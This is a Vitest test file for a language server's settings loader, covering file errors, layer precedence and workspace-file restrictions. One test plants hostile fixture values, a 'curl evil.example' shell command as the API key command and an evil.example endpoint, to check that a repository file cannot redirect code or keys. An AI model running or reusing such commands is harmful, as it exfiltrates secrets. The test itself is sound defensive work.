// The layers of settings, from real files.
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { effectiveSettings, type Layer, readSettingsFile } from '../../../server/settings/load.ts';
import { systemFiles } from '../../../server/world/files.ts';

let folder: string;
let path: string;

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'codestral-lsp-'));
  path = join(folder, 'settings.json');
});

afterEach(() => rm(folder, { recursive: true }));

function layer(source: Layer['source'], values: Record<string, unknown>): Layer {
  return { source, values: new Map(Object.entries(values)) };
}

test('a file that is not there sets nothing and is no mistake', async () => {
  expect(await readSettingsFile(systemFiles, path)).toEqual({ values: new Map(), issues: [] });
});

test('an empty file sets nothing and is no mistake', async () => {
  await writeFile(path, '\n');
  expect(await readSettingsFile(systemFiles, path)).toEqual({ values: new Map(), issues: [] });
});

test('malformed JSON is reported with file, line and column', async () => {
  await writeFile(path, '{\n  "completion": { "enabled": false },\n}\n');
  const { values, issues } = await readSettingsFile(systemFiles, path);
  expect(values.size).toBe(0);
  expect(issues).toEqual([
    {
      path: '',
      message: `${path} is not JSON: line 3, column 1: there must be no comma before this. Nothing in it applies.`,
    },
  ]);
});

test('a wrong value is reported with its file', async () => {
  await writeFile(path, '{ "completion": { "enabled": 1 } }');
  const { issues } = await readSettingsFile(systemFiles, path);
  expect(issues[0]?.message).toBe(`${path}: completion.enabled must be true or false, not 1. Not applied.`);
});

test.each([
  ['bytes that are no text', Buffer.from([0x7b, 0xff, 0xfe]), 'is not UTF-8 text. Not applied.'],
  ['a binary file', Buffer.from([0x7b, 0x00]), 'is not UTF-8 text. Not applied.'],
  ['a huge file', Buffer.alloc(1024 * 1024 + 1, ' '), 'is larger than 1 MB. Not applied.'],
])('%s is reported', async (_, content, why) => {
  await writeFile(path, content);
  expect((await readSettingsFile(systemFiles, path)).issues[0]?.message).toBe(`${path} ${why}`);
});

test('a directory in place of the file is reported', async () => {
  await mkdir(path);
  expect((await readSettingsFile(systemFiles, path)).issues[0]?.message).toBe(`${path} is not a file. Not applied.`);
});

test('a file without read permission is reported', async () => {
  await writeFile(path, '{}');
  const unreadable = { ...systemFiles, read: async () => undefined };
  expect((await readSettingsFile(unreadable, path)).issues[0]?.message).toBe(
    `${path} cannot be read: you have no permission. Not applied.`,
  );
});

test('without any layer the defaults hold', () => {
  const { settings, sources, issues } = effectiveSettings([]);
  expect(settings.completion.debounceMs).toBe(75);
  expect(settings.providers.mistral.endpoint).toBe('https://api.mistral.ai');
  expect(sources.size).toBe(0);
  expect(issues).toEqual([]);
});

test('user file, client and workspace file win over each other in this order', () => {
  const { settings, sources } = effectiveSettings([
    layer('user file', { 'completion.debounceMs': 1, 'completion.maxTokens': 1, 'completion.multiline': 'never' }),
    layer('client', { 'completion.maxTokens': 2, 'completion.multiline': 'always' }),
    layer('workspace file', { 'completion.multiline': 'auto', 'completion.contextTokens': 500 }),
  ]);
  expect(settings.completion).toMatchObject({ debounceMs: 1, maxTokens: 2, multiline: 'auto', contextTokens: 500 });
  expect(sources.get('completion.debounceMs')).toBe('user file');
  expect(sources.get('completion.maxTokens')).toBe('client');
  expect(sources.get('completion.contextTokens')).toBe('workspace file');
});

test('a workspace file can send neither code nor key elsewhere', () => {
  const { settings, issues } = effectiveSettings([
    layer('workspace file', {
      'providers.mistral.endpoint': 'https://evil.example',
      'providers.mistral.apiKeyCommand': ['sh', '-c', 'curl evil.example'],
      'completion.model': 'other/model',
      'log.file': 'stolen.log',
      'completion.debounceMs': 10,
    }),
  ]);
  expect(settings.providers.mistral.endpoint).toBe('https://api.mistral.ai');
  expect(settings.providers.mistral.apiKeyCommand).toEqual([]);
  expect(settings.completion).toMatchObject({ model: null, debounceMs: 10 });
  expect(settings.log.file).toBeNull();
  expect(issues.map((issue) => issue.path)).toEqual([
    'completion.model',
    'providers.mistral.endpoint',
    'providers.mistral.apiKeyCommand',
    'log.file',
  ]);
  expect(issues[1]?.message).toBe(
    '.codestral-lsp.json: providers.mistral.endpoint cannot be set by a file that comes with the repository. Set it in your editor, or in settings.json in your own settings folder.',
  );
});

test('a workspace file can switch completion off, but not on', () => {
  const off = effectiveSettings([layer('workspace file', { 'completion.enabled': false })]);
  expect(off.settings.completion.enabled).toBe(false);
  expect(off.sources.get('completion.enabled')).toBe('workspace file');

  const on = effectiveSettings([
    layer('user file', { 'completion.enabled': false }),
    layer('workspace file', { 'completion.enabled': true }),
  ]);
  expect(on.settings.completion.enabled).toBe(false);
  expect(on.issues[0]?.message).toContain('can only be switched off');
});

test('a workspace file can add files to exclude, but not take any away', () => {
  const { settings, issues } = effectiveSettings([
    layer('user file', { 'completion.exclude': ['**/.env', 'private/**'] }),
    layer('workspace file', { 'completion.exclude': ['generated/**', '**/.env'] }),
  ]);
  expect(settings.completion.exclude).toEqual(['**/.env', 'private/**', 'generated/**']);
  expect(issues).toEqual([]);
});

test('a workspace file can lower what a request costs, but not raise it', () => {
  const lower = effectiveSettings([
    layer('workspace file', { 'completion.maxTokens': 64, 'completion.contextTokens': 500, 'chat.maxTokens': 2000 }),
  ]);
  expect(lower.settings.completion).toMatchObject({ maxTokens: 64, contextTokens: 500 });
  expect(lower.settings.chat.maxTokens).toBe(2000);
  expect(lower.issues).toEqual([]);

  const higher = effectiveSettings([
    layer('user file', { 'completion.maxTokens': 64, 'chat.maxTokens': 1000 }),
    layer('workspace file', {
      'completion.maxTokens': 4096,
      'completion.contextTokens': 100_000,
      'chat.maxTokens': null,
    }),
  ]);
  expect(higher.settings.completion).toMatchObject({ maxTokens: 64, contextTokens: 2000 });
  expect(higher.settings.chat.maxTokens).toBe(1000);
  expect(higher.issues).toHaveLength(3);
  expect(higher.issues[0]?.message).toContain('completion.maxTokens can only be lowered');
});

test('a snapshot cannot be changed', () => {
  const { settings } = effectiveSettings([]);
  expect(() => Object.assign(settings.completion, { enabled: false })).toThrow(TypeError);
  expect(() => (settings.completion.exclude as string[]).push('x')).toThrow(TypeError);
});
